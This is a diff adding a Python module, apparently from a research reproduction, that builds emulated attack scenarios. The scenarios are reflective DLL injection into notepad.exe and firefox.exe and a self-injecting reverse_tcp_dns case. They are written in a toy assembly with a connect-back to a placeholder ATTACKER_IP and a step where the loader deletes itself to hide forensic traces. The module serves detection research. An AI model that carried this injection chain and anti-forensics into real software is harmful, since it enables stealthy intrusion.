@@ -1,0 +1,218 @@
+"""Reflective DLL injection via Metasploit-style modules (§VI).
+
+Three scenarios matching the paper's experiments:
+
+* ``reflective_dll_inject`` -- a Meterpreter shell (``inject_client.exe``)
+  opens a session to the attacker, receives a reflective DLL stage over
+  it, and injects the stage into ``notepad.exe`` with the classic
+  ``OpenProcess`` / ``VirtualAllocEx`` / ``WriteProcessMemory`` /
+  ``CreateRemoteThread`` chain.  The stage resolves
+  LoadLibraryA-style imports from the export table by hash -- without
+  ever registering with the loader (that registration bypass is the
+  point of reflective loading).
+* ``reverse_tcp_dns`` -- same delivery, but the shellcode process
+  injects into *itself*: the stage lands in fresh RWX memory of
+  ``inject_client.exe`` and is entered with an indirect call (Fig. 8's
+  one-process provenance chain).
+* ``bypassuac_injection`` -- same as the first, targeting
+  ``firefox.exe`` (Fig. 9).
+
+The loader deletes its own on-disk image after injecting (the §II
+"loader is commonly deleted" anti-forensics step), so file-system
+artifacts point nowhere by the time a sandbox looks.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass
+from typing import Optional
+
+from repro.attacks.common import (
+    ATTACKER_IP,
+    ATTACKER_PORT,
+    FIRST_EPHEMERAL_PORT,
+    GUEST_IP,
+    PAYLOAD_BASE,
+    assemble_image,
+    benign_host_asm,
+    recv_exact_asm,
+)
+from repro.attacks.payloads import PAYLOAD_ENTRY_OFFSET, build_popup_payload
+from repro.emulator.devices import Packet
+from repro.emulator.record_replay import PacketEvent, Scenario
+from repro.guestos import layout
+
+
+@dataclass
+class AttackScenario:
+    """A runnable attack plus the metadata benches assert against."""
+
+    scenario: Scenario
+    client_process: str
+    target_process: str
+    payload_size: int
+    attacker_endpoint: str
+    module: str
+
+
+def _injector_asm(payload_size: int, target_name: str) -> str:
+    """The remote-injection client (Meterpreter session handler)."""
+    return f"""
+    start:
+        ; open the session back to the attacker
+        movi r0, SYS_SOCKET
+        syscall
+        mov r7, r0
+        mov r1, r7
+        movi r2, attacker_ip
+        movi r3, {ATTACKER_PORT}
+        movi r0, SYS_CONNECT
+        syscall
+        ; stage the reflective DLL over the session
+{recv_exact_asm("r7", "stage_buf", payload_size, "stage")}
+        ; locate and open the victim
+        movi r1, target_name
+        movi r0, SYS_FIND_PROCESS
+        syscall
+        mov r1, r0
+        movi r0, SYS_OPEN_PROCESS
+        syscall
+        mov r6, r0
+        ; VirtualAllocEx(victim, PAYLOAD_BASE, RWX)
+        mov r1, r6
+        movi r2, {payload_size}
+        movi r3, PERM_RWX
+        movi r4, {PAYLOAD_BASE:#x}
+        movi r0, SYS_ALLOC_VM
+        syscall
+        ; WriteProcessMemory(victim, PAYLOAD_BASE, stage)
+        mov r1, r6
+        movi r2, {PAYLOAD_BASE:#x}
+        movi r3, stage_buf
+        movi r4, {payload_size}
+        movi r0, SYS_WRITE_VM
+        syscall
+        ; CreateRemoteThread(victim, stage entry)
+        mov r1, r6
+        movi r2, {PAYLOAD_BASE + PAYLOAD_ENTRY_OFFSET:#x}
+        movi r3, 0
+        movi r0, SYS_CREATE_REMOTE_THREAD
+        syscall
+        ; anti-forensics: delete the loader from disk
+        movi r1, own_path
+        movi r0, SYS_DELETE_FILE
+        syscall
+        movi r1, 0
+        movi r0, SYS_EXIT
+        syscall
+    attacker_ip: .asciz "{ATTACKER_IP}"
+    target_name: .asciz "{target_name}"
+    own_path: .asciz "inject_client.exe"
+    stage_buf: .space {payload_size}
+    """
+
+
+def _self_injector_asm(payload_size: int) -> str:
+    """reverse_tcp_dns: stage lands in the shellcode's own process."""
+    return f"""
+    start:
+        movi r0, SYS_SOCKET
+        syscall
+        mov r7, r0
+        mov r1, r7
+        movi r2, attacker_ip
+        movi r3, {ATTACKER_PORT}
+        movi r0, SYS_CONNECT
+        syscall
+{recv_exact_asm("r7", "stage_buf", payload_size, "stage")}
+        ; VirtualAlloc RWX in our own address space (lands at HEAP_BASE)
+        movi r1, {payload_size}
+        movi r2, PERM_RWX
+        movi r0, SYS_ALLOC
+        syscall
+        mov r6, r0
+        ; copy the stage in, byte by byte
+        movi r1, stage_buf
+        mov r2, r6
+        movi r3, {payload_size}
+    copy:
+        ldb r4, [r1]
+        stb [r2], r4
+        addi r1, r1, 1
+        addi r2, r2, 1
+        subi r3, r3, 1
+        cmpi r3, 0
+        jnz copy
+        ; jump into the stage (it never returns)
+        addi r6, r6, {PAYLOAD_ENTRY_OFFSET}
+        callr r6
+        hlt
+    attacker_ip: .asciz "{ATTACKER_IP}"
+    stage_buf: .space {payload_size}
+    """
+
+
+def _build(
+    module: str,
+    target_name: Optional[str],
+    self_inject: bool,
+    transient: bool,
+    deliver_at: int = 20_000,
+) -> AttackScenario:
+    stage_base = layout.HEAP_BASE if self_inject else PAYLOAD_BASE
+    stage = build_popup_payload(stage_base, transient=transient)
+    payload = stage.code
+
+    def setup(machine) -> None:
+        if target_name:
+            machine.kernel.register_image(
+                target_name, assemble_image(benign_host_asm(f"{target_name} up"))
+            )
+            machine.kernel.spawn(target_name)
+        if self_inject:
+            source = _self_injector_asm(len(payload))
+        else:
+            source = _injector_asm(len(payload), target_name)
+        machine.kernel.register_image("inject_client.exe", assemble_image(source))
+        machine.kernel.spawn("inject_client.exe")
+
+    events = [
+        (
+            deliver_at,
+            PacketEvent(
+                Packet(ATTACKER_IP, ATTACKER_PORT, GUEST_IP, FIRST_EPHEMERAL_PORT, payload)
+            ),
+        )
+    ]
+    return AttackScenario(
+        scenario=Scenario(
+            name=module,
+            setup=setup,
+            events=events,
+            max_instructions=400_000,
+        ),
+        client_process="inject_client.exe",
+        target_process=target_name or "inject_client.exe",
+        payload_size=len(payload),
+        attacker_endpoint=f"{ATTACKER_IP}:{ATTACKER_PORT}",
+        module=module,
+    )
+
+
+def build_reflective_dll_scenario(transient: bool = False) -> AttackScenario:
+    """Fig. 7: Meterpreter reflective DLL injection into notepad.exe."""
+    return _build(
+        "reflective_dll_inject", "notepad.exe", self_inject=False, transient=transient
+    )
+
+
+def build_reverse_tcp_dns_scenario(transient: bool = False) -> AttackScenario:
+    """Fig. 8: reverse_tcp_dns -- shellcode and target are the same process."""
+    return _build("reverse_tcp_dns", None, self_inject=True, transient=transient)
+
+
+def build_bypassuac_injection_scenario(transient: bool = False) -> AttackScenario:
+    """Fig. 9: bypassuac_injection targeting firefox.exe."""
+    return _build(
+        "bypassuac_injection", "firefox.exe", self_inject=False, transient=transient
+    )
